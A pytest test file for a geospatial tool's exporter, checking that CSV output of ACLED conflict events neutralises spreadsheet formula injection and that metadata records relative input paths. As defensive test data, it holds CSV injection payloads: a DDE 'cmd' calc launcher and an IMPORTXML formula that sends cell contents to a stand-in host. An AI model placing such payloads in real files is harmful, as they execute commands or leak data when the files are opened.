"""Exports an analyst can open and share safely: no spreadsheet formulas out of source
text in CSV, no home paths in the sidecar."""

from __future__ import annotations

import csv
import json
import os
import shutil
from pathlib import Path

import pandas as pd
import pyogrio
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from geo.cli import main
from geo.io import metadata_path, read_events, write_events
from geo.io.write import _geo_frame, build_metadata

HYPERLINK = '=HYPERLINK("http://x","click")'
HOSTILE = {
    # column, row: text a source could carry
    ("notes", 0): HYPERLINK,
    ("actor1", 1): "@SUM(1+1)",
    ("actor2", 2): "+963 11 2223344",
    ("location", 3): "-2+3+cmd|' /C calc'!A0",
    ("notes", 4): "\t=1+1",
    ("notes", 5): "\r=1+1",
}
ACLED = "acled_2022h1_acledR_sample.csv"


@pytest.fixture(scope="module")
def acled(events_dir: Path) -> pd.DataFrame:
    """Real ACLED rows (some with negative latitudes: Congo) with hostile text planted."""
    frame, problems = read_events(events_dir / ACLED)
    assert not problems and (frame["latitude"] < 0).any()
    frame = frame.copy()
    for (column, row), text in HOSTILE.items():
        frame.loc[row, column] = text
    frame.loc[6, "notes"] = "-12"  # a number written as text
    frame["change"] = -3.5  # a numeric column with negative values
    return frame


def read_csv_cells(path: Path) -> list[dict[str, str]]:
    with open(path, encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def test_csv_text_cells_cannot_run_as_formulas(acled, tmp_path):
    path = write_events(acled, tmp_path / "events.csv")
    rows = read_csv_cells(path)
    assert len(rows) == len(acled)
    for (column, row), text in HOSTILE.items():
        assert rows[row][column] == "'" + text, (column, row)
    # Text that is only a number opens as that number: left as written.
    assert rows[6]["notes"] == "-12"
    # Untouched text keeps its value.
    assert rows[7]["notes"] == acled.loc[7, "notes"]
    assert rows[0]["event_id"] == acled.loc[0, "event_id"]
    # Numbers stay numbers, negative ones included.
    assert [float(r["latitude"]) for r in rows] == acled["latitude"].tolist()
    assert [int(r["fatalities"]) for r in rows] == acled["fatalities"].tolist()
    assert {r["change"] for r in rows} == {"-3.5"}
    negative = [r["latitude"] for r in rows if float(r["latitude"]) < 0]
    assert negative and all(cell.startswith("-") for cell in negative)
    # No cell of the file starts a formula, whatever column it is in.
    for row in rows:
        for column, cell in row.items():
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not is_number(cell):
                pytest.fail(f"{column}: {cell!r}")


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_geojson_of_the_same_events_keeps_the_raw_text(acled, tmp_path):
    path = write_events(acled, tmp_path / "events.geojson")
    features = json.loads(path.read_text(encoding="utf-8"))["features"]
    for (column, row), text in HOSTILE.items():
        assert features[row]["properties"][column] == text, (column, row)
    assert features[0]["properties"]["change"] == -3.5


def test_side_tables_and_header_names_are_neutralised(acled, tmp_path):
    unresolved = pd.DataFrame(
        {
            "source_file": ["acled.csv"],
            "source_row": [2],
            "location": ['=IMPORTXML(CONCAT("http://x/?",A1),"//a")'],
            "reason": ["@no gazetteer match"],
        }
    )
    aggregates = pd.DataFrame(
        {"adm1_pcode": ["SY01", "-SY02"], "events": [3, 1], "change": [-0.5, 2.0]}
    )
    frame = acled.assign(**{"=cmd|' /C calc'!A0": "x"})
    path = write_events(
        frame, tmp_path / "events.csv", unresolved=unresolved, aggregates=aggregates
    )
    header = read_csv_cells(path)[0].keys()
    assert "'=cmd|' /C calc'!A0" in header and "=cmd|' /C calc'!A0" not in header
    side = read_csv_cells(tmp_path / "events.unresolved.csv")
    assert side[0]["location"] == "'" + unresolved.loc[0, "location"]
    assert side[0]["reason"] == "'@no gazetteer match"
    assert side[0]["source_row"] == "2"
    totals = read_csv_cells(tmp_path / "events.aggregates.csv")
    assert [r["adm1_pcode"] for r in totals] == ["SY01", "'-SY02"]
    assert [float(r["change"]) for r in totals] == [-0.5, 2.0]
    # The GeoPackage holds the same side tables as they were.
    gpkg = write_events(frame, tmp_path / "events.gpkg", unresolved=unresolved)
    back = pyogrio.read_dataframe(gpkg, layer="unresolved")
    assert back["location"].tolist() == unresolved["location"].tolist()


def test_sidecar_records_inputs_relative_to_the_output(events_dir, tmp_path, monkeypatch):
    project = tmp_path / "project"
    inputs, exports = project / "inputs", project / "exports"
    inputs.mkdir(parents=True), exports.mkdir()
    source = shutil.copy(events_dir / ACLED, inputs / "acled.csv")
    frame, _ = read_events(source)
    path = write_events(
        frame,
        exports / "events.geojson",
        metadata={"inputs": [str(source)], "sources": ["ACLED export, 2022-07-01"]},
    )
    sidecar = metadata_path(path).read_text(encoding="utf-8")
    meta = json.loads(sidecar)
    assert meta["sources"] == ["../inputs/acled.csv", "ACLED export, 2022-07-01"]
    assert meta["build"]["inputs"] == ["../inputs/acled.csv"]
    assert str(tmp_path) not in sidecar
    # The folder moves as a whole: the recorded path still finds the input.
    moved = Path(shutil.move(project, tmp_path / "shared-copy"))
    found = moved / "exports" / meta["sources"][0]
    assert found.resolve() == (moved / "inputs" / "acled.csv").resolve() and found.is_file()

    # A path given relative to the working folder is recorded relative to the output.
    monkeypatch.chdir(moved)
    path = write_events(frame, Path("exports/here.csv"), metadata={"inputs": ["inputs/acled.csv"]})
    assert json.loads(metadata_path(path).read_text())["build"]["inputs"] == ["../inputs/acled.csv"]


def test_sidecar_keeps_paths_that_share_no_folder_with_the_output(events_dir):
    source = str(events_dir / ACLED)
    # An output folder that shares only the filesystem root with the input, wherever the
    # data and the temporary folders live (the sidecar is built, not written: no folder needed).
    top = Path(os.path.abspath(source)).parts[1]
    target = Path(os.path.abspath(os.sep)) / f"not-{top}" / "exports" / "events.parquet"
    frame, _ = read_events(source)
    meta = build_metadata(_geo_frame(frame), target, fmt="parquet", metadata={"inputs": [source]})
    assert meta["sources"] == [source]
    assert meta["build"]["inputs"] == [source]


def test_geo_export_to_csv_end_to_end(events_dir, data_dir, tmp_path, monkeypatch, capsys):
    project = tmp_path / "project"
    (project / "inputs").mkdir(parents=True)
    (project / "exports").mkdir()
    rows = pd.read_csv(
        events_dir / "acled_2024_syria_newschema_excerpt_transcribed.csv",
        dtype=str,
        keep_default_na=False,
    )
    rows.loc[0, "notes"] = HYPERLINK
    rows.loc[1, "actor1"] = "@SUM(1+1)"
    rows.loc[2, "location"] = "=Nowhere()"  # cannot be placed: lands in the unresolved table
    rows.loc[2, ["latitude", "longitude", "admin1", "admin2", "admin3"]] = ""
    rows.to_csv(project / "inputs" / "acled.csv", index=False)
    monkeypatch.chdir(project)
    code = main(
        ["export", "inputs/acled.csv", "--data-dir", str(data_dir), "-o", "exports/events.csv"]
    )
    assert code in (0, 1), capsys.readouterr().err
    out = read_csv_cells(project / "exports" / "events.csv")
    by_id = {row["event_id"]: row for row in out}
    assert by_id[rows.loc[0, "event_id_cnty"]]["notes"] == "'" + HYPERLINK
    assert by_id[rows.loc[1, "event_id_cnty"]]["actor1"] == "'@SUM(1+1)"
    assert float(by_id[rows.loc[0, "event_id_cnty"]]["latitude"]) == float(rows.loc[0, "latitude"])
    unresolved = read_csv_cells(project / "exports" / "events.unresolved.csv")
    assert [row["location"] for row in unresolved] == ["'=Nowhere()"]
    meta = json.loads(metadata_path(project / "exports" / "events.csv").read_text())
    assert meta["build"]["inputs"] == ["../inputs/acled.csv"]
    assert meta["sources"] == ["../inputs/acled.csv"]


@settings(max_examples=60, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    text=st.one_of(
        st.text(max_size=12),
        st.builds(lambda a, b: a + b, st.sampled_from(["=", "+", "-", "@", "\t", "\r"]), st.text()),
        st.floats(allow_nan=False, allow_infinity=False).map(lambda x: f"{x:+}"),
    )
)
def test_any_text_reads_back_as_itself_or_as_quoted_text(text, tmp_path):
    path = write_events(pd.DataFrame({"notes": [text], "value": [-1.5]}), tmp_path / "one.csv")
    (row,) = read_csv_cells(path)
    assert row["value"] == "-1.5"
    if row["notes"] != text:  # neutralised: the quote and the text, nothing else
        assert row["notes"] == "'" + text and text[:1] in "=+-@\t\r\0"
    else:  # as written: starts no formula, or is a plain number
        assert text[:1] not in ("=", "+", "-", "@", "\t", "\r", "\0") or is_number(text)
